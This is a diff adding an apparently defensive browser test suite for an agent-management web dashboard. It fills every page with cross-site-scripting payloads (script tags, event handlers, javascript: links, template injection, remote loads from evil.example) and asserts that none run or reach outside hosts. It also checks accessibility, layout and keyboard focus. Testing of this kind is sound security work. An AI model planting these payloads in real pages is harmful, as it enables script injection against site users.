@@ -1,0 +1,259 @@
+import type { BrowserContext, Page } from "playwright-core";
+import { Agent, defineTool } from "trackside";
+import { scriptedModel } from "trackside/testing";
+import { expect, test, vi } from "vitest";
+import { expectNoSeriousAxe } from "./support/axe.ts";
+import { type ControlRoomHere, startControlRoom } from "./support/control-room.ts";
+import { shoot } from "./support/shoot.ts";
+import { browserSuite } from "./support/suite.ts";
+
+vi.setConfig({ testTimeout: 300_000 }); // a browser and a server, when they get a turn
+const PATIENT = { timeout: 120_000, interval: 100 };
+
+/** Each sets a mark on the page or asks a host of its own if it is taken for more than text. */
+const PAYLOADS = [
+  `<img src=x onerror="window.hacked=1">`,
+  `<svg onload="window.hacked=2"><script>window.hacked=3</script></svg>`,
+  `"><script src="https://evil.example/a.js"></script>`,
+  `<iframe srcdoc="<script>parent.hacked=4</script>"></iframe>`,
+  `<a href="javascript:window.hacked=5">press</a>`,
+  `[press](javascript:window.hacked=6) [data](data:text/html,<script>opener.hacked=7</script>)`,
+  `![picture](https://evil.example/pixel.png) ![x](x"onerror="window.hacked=8)`,
+  `<style>@import "https://evil.example/a.css";</style><link rel=stylesheet href=//evil.example/b.css>`,
+  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
+  `<form action="https://evil.example/"><button autofocus onfocus="window.hacked=9">send</button></form>`,
+  "{{constructor.constructor('window.hacked=10')()}}",
+];
+/** What stands for a picture where markdown is read: until then the payloads are plain text and prove little. */
+const IMAGE = "Image: picture";
+const HOSTILE = PAYLOADS.join("\n\n");
+
+const look = defineTool({
+  name: "look_around",
+  description: HOSTILE,
+  input: { type: "object", properties: { where: { type: "string" } }, required: ["where"] },
+  effect: "none",
+  execute: () => ({ html: PAYLOADS, [PAYLOADS[0] ?? ""]: "a key" }),
+});
+
+const act = defineTool({
+  name: "act",
+  description: "Acts, once somebody allows it.",
+  input: { type: "object", properties: { how: { type: "string" } } },
+  effect: "once",
+  execute: () => HOSTILE,
+});
+
+/** Says, calls and returns nothing that is not hostile, and stops at a question. */
+const agent = new Agent({
+  name: "mallory",
+  instructions: HOSTILE,
+  model: scriptedModel(
+    [
+      ({ prompt }) => {
+        const rounds = prompt.filter(({ role }) => role === "tool").length;
+        if (rounds === 0)
+          return {
+            reasoning: HOSTILE,
+            text: HOSTILE,
+            calls: [{ tool: "look_around", args: { where: HOSTILE, why: HOSTILE } }],
+          };
+        return rounds === 1
+          ? { text: HOSTILE, calls: [{ tool: "act", args: { how: HOSTILE, why: HOSTILE } }] }
+          : HOSTILE;
+      },
+    ],
+    { loop: true },
+  ),
+  tools: [look, act],
+  hitlTools: ["act"],
+  injectedToolArgs: { why: "Why." },
+});
+
+interface Filled {
+  readonly room: ControlRoomHere;
+  /** Every page of `routes.tsx`, by a name for its picture: what shows that it is there, and that markdown was read. */
+  readonly pages: Readonly<Record<string, { path: string; shows: string | RegExp; reads?: string }>>;
+}
+
+async function filled(): Promise<Filled> {
+  const room = await startControlRoom({ agents: [agent], tools: [look, act] });
+  const client = await room.client();
+  const start = async (input: string) =>
+    (await client.startRun({ body: { agent: "mallory", input } })).run_id;
+  const asks = async (run: string) =>
+    vi.waitFor(async () => {
+      const [id] = (await client.getRun({ params: { id: run } })).pending_approvals;
+      if (id === undefined) throw new Error("nobody is asked yet");
+      return id;
+    }, PATIENT);
+  const done = await start(HOSTILE);
+  await client.decideApproval({
+    params: { id: await asks(done) },
+    body: { choice: "approve", reason: HOSTILE },
+  });
+  await vi.waitFor(async () => {
+    expect((await client.getRun({ params: { id: done } })).status).toBe("completed");
+  }, PATIENT);
+  const { conversation_id } = await client.getRun({ params: { id: done } });
+  const waiting = await asks(await start(HOSTILE));
+  const definition = { name: "eve", model: "openai:gpt-5", instructions: HOSTILE, tools: ["look_around"] };
+  await client.createAgent({ body: { definition } });
+  return {
+    room,
+    pages: {
+      overview: { path: "/", shows: "Overview" },
+      inbox: { path: "/inbox", shows: "Inbox" },
+      approval: { path: `/inbox/${waiting}`, shows: "What led here" },
+      runs: { path: "/runs", shows: "Runs" },
+      run: { path: `/runs/${done}`, shows: /mallory/ },
+      "run-transcript": { path: `/runs/${done}?tab=transcript`, shows: /mallory/, reads: IMAGE },
+      "run-requests": { path: `/runs/${done}?tab=requests`, shows: /mallory/ },
+      playground: { path: "/playground", shows: "Playground" },
+      conversation: {
+        path: `/playground/mallory?conversation=${conversation_id}`,
+        shows: /mallory/,
+        reads: IMAGE,
+      },
+      agents: { path: "/agents", shows: "Agents" },
+      "agent-new": { path: "/agents/new", shows: /agent/i },
+      agent: { path: "/agents/eve", shows: /eve/ },
+      "agent-in-code": { path: "/agents/mallory", shows: /mallory/ },
+      versions: { path: "/agents/eve/versions", shows: /eve|versions/i },
+      providers: { path: "/settings/providers", shows: "Providers" },
+      users: { path: "/settings/users", shows: "Users" },
+      tokens: { path: "/settings/tokens", shows: "API tokens" },
+      audit: { path: "/settings/audit", shows: "Audit" },
+      "not-found": { path: "/no/such/page", shows: "There is no such page" },
+    },
+  };
+}
+
+/** Links that would run something, and pictures and frames from elsewhere. */
+const UNSAFE = `[
+  ...[...document.links].filter((link) => !/^(https?|mailto|blob):$/.test(link.protocol)).map(String),
+  ...[...document.querySelectorAll("img, iframe, embed, object")].map((element) => element.outerHTML),
+]`;
+
+/** Requests that leave the room: refused, and told. */
+async function watchOut(context: BrowserContext, room: ControlRoomHere): Promise<string[]> {
+  const left: string[] = [];
+  await context.route(
+    (url) => url.origin !== room.url && /^(https?|wss?):$/.test(url.protocol),
+    async (route) => {
+      left.push(route.request().url());
+      await route.abort();
+    },
+  );
+  return left;
+}
+
+async function settled(page: Page, shows: string | RegExp): Promise<void> {
+  await page.getByRole("heading", { name: shows }).first().waitFor();
+  await expect.poll(() => page.locator(".skeleton").count(), PATIENT).toBe(0);
+}
+
+await browserSuite("every page", (browser) => {
+  for (const [size, scheme] of [
+    ["desktop", "light"],
+    ["phone", "dark"],
+  ] as const)
+    test(`${size}, ${scheme}: nothing hostile runs or is loaded, nothing is wrong, everybody can use it`, async () => {
+      const { room, pages } = await filled();
+      // A new agent has no name yet, and the server is asked what is wrong with it.
+      const { page, context } = await browser.open({ size, scheme, expect: [/422.*agents\/preview/] });
+      const left = await watchOut(context, room);
+      await room.signIn(context);
+      const wrong: string[] = [];
+      for (const [name, { path, shows, reads }] of Object.entries(pages)) {
+        await page.goto(`${room.url}${path}`);
+        await settled(page, shows);
+        if (reads !== undefined) await page.getByText(reads).first().waitFor({ state: "attached" });
+        await shoot(page, `every-${name}-${size}-${scheme}`);
+        await expectNoSeriousAxe(page).catch((error: Error) => wrong.push(`${name}: ${error.message}`));
+        if ((await page.evaluate<unknown>("window.hacked")) !== undefined)
+          wrong.push(`${name}: a payload ran`);
+        if (new URL(page.url()).origin !== room.url) wrong.push(`${name}: it went to ${page.url()}`);
+        const bad = await page.evaluate<string[]>(UNSAFE);
+        if (bad.length > 0) wrong.push(`${name}: ${bad.join(", ")}`);
+        const wide = "document.documentElement.scrollWidth - innerWidth";
+        const over = await page.evaluate<number>(wide);
+        if (over > 0) wrong.push(`${name}: ${over} pixels wider than the ${size}`);
+      }
+      expect(wrong).toEqual([]);
+      expect(left).toEqual([]);
+    });
+
+  test("the other schemes: light on a phone and dark on a desk keep their contrast", async () => {
+    const { room, pages } = await filled();
+    for (const [size, scheme] of [
+      ["desktop", "dark"],
+      ["phone", "light"],
+    ] as const) {
+      const { page, context } = await browser.open({ size, scheme });
+      await room.signIn(context);
+      const wrong: string[] = [];
+      for (const name of ["overview", "inbox", "run", "conversation", "agent", "audit"]) {
+        const { path, shows } = pages[name] ?? { path: "/", shows: "Overview" };
+        await page.goto(`${room.url}${path}`);
+        await settled(page, shows);
+        await shoot(page, `every-${name}-${size}-${scheme}`);
+        await expectNoSeriousAxe(page).catch((error: Error) => wrong.push(`${name}: ${error.message}`));
+      }
+      expect(wrong).toEqual([]);
+    }
+  });
+
+  test("keys: help, search, places, and a way out of each; focus can be seen", async () => {
+    const { room } = await filled();
+    const { page, context } = await browser.open();
+    await room.signIn(context);
+    await page.goto(room.url);
+    await settled(page, "Overview");
+    for (const [key, title] of [
+      ["i", /^\(\d+\) May act run/],
+      ["r", /Runs/],
+      ["p", /Playground/],
+      ["a", /Agents/],
+      ["s", /Providers|Settings/],
+      ["o", /Overview/],
+      ["r", /Runs/],
+    ] as const) {
+      await page.keyboard.press("g");
+      await page.keyboard.press(key);
+      await expect.poll(() => page.title(), PATIENT).toMatch(title);
+    }
+    await page.keyboard.press("?");
+    const help = page.getByRole("dialog");
+    await help.getByText("Go to Overview").waitFor();
+    await expectNoSeriousAxe(page);
+    await shoot(page, "every-keys");
+    await page.keyboard.press("Escape");
+    await help.waitFor({ state: "hidden" });
+    await page.keyboard.press("g");
+    await page.keyboard.press("a");
+    await page.getByRole("link", { name: "eve", exact: true }).waitFor();
+    await page.keyboard.press("/");
+    const focused = () => page.evaluate<string>("document.activeElement?.getAttribute('aria-label') ?? ''");
+    await expect.poll(focused, PATIENT).toBe("Search agents");
+    await page.keyboard.type("g a ?");
+    expect(await page.getByRole("dialog").count()).toBe(0);
+    // Every stop of Tab has an outline or a ring, wherever it is.
+    await page.goto(`${room.url}/runs`);
+    await settled(page, "Runs");
+    const hidden: string[] = [];
+    for (let stop = 0; stop < 12; stop++) {
+      await page.keyboard.press("Tab");
+      const seen = await page.evaluate<string>(`(() => {
+        const at = document.activeElement;
+        const shown = [at, at.parentElement].some((element) => {
+          const style = getComputedStyle(element);
+          return (style.outlineStyle !== "none" && parseFloat(style.outlineWidth) > 0) || style.boxShadow !== "none";
+        });
+        return shown ? "" : at.outerHTML.slice(0, 200);
+      })()`);
+      if (seen !== "") hidden.push(seen);
+    }
+    expect(hidden).toEqual([]);
+  });
+});
